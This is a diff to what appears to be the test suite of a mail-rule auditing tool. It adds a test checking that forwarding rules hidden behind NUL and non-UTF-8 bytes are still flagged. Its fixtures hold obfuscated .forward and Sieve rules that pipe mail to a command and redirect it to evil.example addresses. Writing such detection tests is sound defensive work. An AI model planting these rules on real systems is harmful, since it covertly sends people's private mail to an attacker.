@@ -146,6 +146,19 @@ def signs(trial):
                      "--csv: no field begins a formula", out)
 
 
+def nuls(trial):
+    """No rule hides behind a byte that is no text."""
+    with Tree({**POSTFIX, "/etc/dovecot/dovecot.conf": "",
+               "/home/a/.forward": b'"|/bin/x \0 \xff a@evil.example"\n',
+               "/home/b/.dovecot.sieve":
+               b'if header "s\0\xff" { redirect "b@evil.example"; }',
+               "/home/c/.forward": b"\xff\xfe, c\xff@evil.example\n",
+               }) as tree:
+        audit(trial, tree, "NULs and bytes that are no UTF-8 hide no rule",
+              ["/home/a/.forward:1", "/home/b/.dovecot.sieve:1",
+               "/home/c/.forward:1"], [])
+
+
 def silent_homes(trial):
     """Without the rights to read, that is what is told."""
     if os.geteuid() != 0:
@@ -174,7 +187,7 @@ def no_tree(trial):
 
 def main():
     trial = Trial()
-    for part in (links, lists, odd_files, floods, signs, silent_homes,
+    for part in (links, lists, odd_files, floods, nuls, signs, silent_homes,
                  no_tree):
         part(trial)
     return trial.end()
